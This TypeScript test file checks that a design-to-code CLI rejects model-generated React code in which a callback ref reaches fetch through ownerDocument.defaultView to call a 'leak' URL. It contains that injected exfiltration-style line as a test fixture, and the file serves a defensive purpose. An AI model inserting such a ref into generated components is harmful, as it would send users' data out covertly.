// Through the whole pipeline: a model reply (from the mock model speaking the real wire format) whose callback ref
// reaches fetch through ownerDocument.defaultView ends with convert failing (exit 1) and nothing written.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { promisify } from 'node:util';
import { completion, mockModel } from './support/mock-model.js';
import { cliArgs, fixturesDir, tempDir } from './support/paths.js';

const card = fs.readFileSync(path.join(fixturesDir, 'engine/Card.tsx'), 'utf8');

async function convert(root: string, baseUrl: string) {
  const args = cliArgs('convert', 'designs/card.png', '--provider', 'openai', '--base-url', baseUrl, '--rounds', '0', '--json');
  const env = { ...process.env, ZHIPUAI_API_KEY: '', ZAI_API_KEY: '', OPENAI_API_KEY: 'k' };
  try {
    const { stdout } = await promisify(execFile)(process.execPath, args, { cwd: root, env, timeout: 180_000 });
    return { code: 0, stdout };
  } catch (error) {
    const e = error as { code: number; stdout: string };
    return { code: e.code, stdout: e.stdout };
  }
}

describe('policy through convert', () => {
  it('refuses a reply whose callback ref fetches through ownerDocument.defaultView: exit 1, failed, nothing written', async () => {
    const root = tempDir();
    fs.mkdirSync(path.join(root, 'designs'));
    fs.copyFileSync(path.join(fixturesDir, 'engine/card.png'), path.join(root, 'designs/card.png'));
    // The known-good card, with one callback ref added to its root element.
    const hostile = card.replace(/<div(\s)/, "<div ref={(el) => { el?.ownerDocument.defaultView?.fetch('http://127.0.0.1:9/leak'); }}$1");
    assert.notEqual(hostile, card);
    const server = await mockModel([completion('```tsx\n' + hostile + '```')]);
    const { code, stdout } = await convert(root, server.baseUrl);
    assert.equal(code, 1);
    const r = JSON.parse(stdout).results[0];
    assert.equal(r.status, 'failed');
    assert.match(r.error, /rule refs at line \d+/);
    assert.ok(!fs.existsSync(path.join(root, 'src/components/generated/Card.tsx')));
    assert.deepEqual(fs.existsSync(path.join(root, 'src')) ? fs.readdirSync(path.join(root, 'src'), { recursive: true }).filter((f) => String(f).endsWith('.tsx')) : [], []);
  });
});
